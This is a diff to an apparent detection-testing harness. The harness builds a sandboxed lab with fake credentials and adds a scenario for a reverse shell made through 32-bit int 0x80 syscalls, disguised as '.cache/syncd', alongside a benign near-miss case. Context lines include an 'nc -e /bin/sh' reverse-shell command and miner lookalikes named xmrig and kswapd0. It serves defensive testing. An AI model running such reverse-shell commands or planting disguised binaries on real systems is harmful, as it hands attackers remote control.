@@ -18,7 +18,7 @@ The lab, made before the first recording and removed after the last:
 - a fake HOME and a small project (git repository, C sources, tests, a wheel, a venv) under
   ``--lab`` (/srv/coi-corpus), copied afresh for every scenario from a pristine template.
   Every credential in it is fake (generated keys, AWS's documented example keys);
-- helper programs compiled from helpers/*.c (a reverse shell that forks, a miner lookalike,
+- helper programs compiled from helpers/*.c (a reverse shell that forks, one through 32-bit calls, a miner lookalike,
   a bounded fork tree, a downloadable "tool");
 - an "outside" test host: a network namespace joined by a veth pair, 198.18.203.2 (a
   benchmarking address, outside every private range the rules know) and 10.203.77.2 (a
@@ -115,6 +115,12 @@ SCENARIOS: tuple[Scenario, ...] = (
       'busybox nc 127.0.0.1 "$LPORT" -e /bin/sh', listener="shell"),
     S("revshell_fork_dup", "a compiled nc -e lookalike: connect, fork, dup2 in the child, exec sh",
       '.cache/updater 127.0.0.1 "$LPORT"', listener="shell"),
+    S("revshell_compat_int80", "socket, connect and dup2 as 32-bit calls (int $0x80), exec sh",
+      '.cache/syncd 127.0.0.1 "$LPORT"', listener="shell"),
+    S("benign_syscall_numbers", "64-bit getuid, uname, socket and preadv: the numbers 32-bit "
+      "socketcall, dup2, dup and openat have",
+      "python3 -c 'import os,socket\nos.getuid(); os.uname(); socket.socket().close()\n"
+      "fd = os.open(\"README.md\", os.O_RDONLY); os.preadv(fd, [bytearray(16)], 0); os.close(fd)'"),
     S("nearmiss_stdio_sockets", "child stdio on a unix socketpair; plain HTTP clients on loopback",
       "python3 - <<'EOF'\n"
       "import socket, subprocess\n"
@@ -476,7 +482,7 @@ class Lab:
     def _compile_helpers(self) -> None:
         out = self.root / "bin"
         out.mkdir()
-        for name in ("revshell_fork", "miner", "spawn", "hello"):
+        for name in ("revshell_fork", "revshell_compat", "miner", "spawn", "hello"):
             run(["gcc", "-O2", "-Wall", "-o", str(out / name), str(HELPERS / f"{name}.c")])
 
     def _make_home(self, home: Path) -> None:
@@ -604,7 +610,8 @@ class Lab:
             path.write_text(text)
         (ws / "scripts/build.sh").chmod(0o644)
         bin_dir = self.root / "bin"
-        for src, dst in (("revshell_fork", ".cache/updater"), ("miner", ".cache/xmrig"),
+        for src, dst in (("revshell_fork", ".cache/updater"), ("revshell_compat", ".cache/syncd"),
+                         ("miner", ".cache/xmrig"),
                          ("miner", ".cache/kswapd0"), ("spawn", ".cache/spawn"),
                          ("hello", "csrc/prebuilt/tool")):
             (ws / dst).parent.mkdir(parents=True, exist_ok=True)
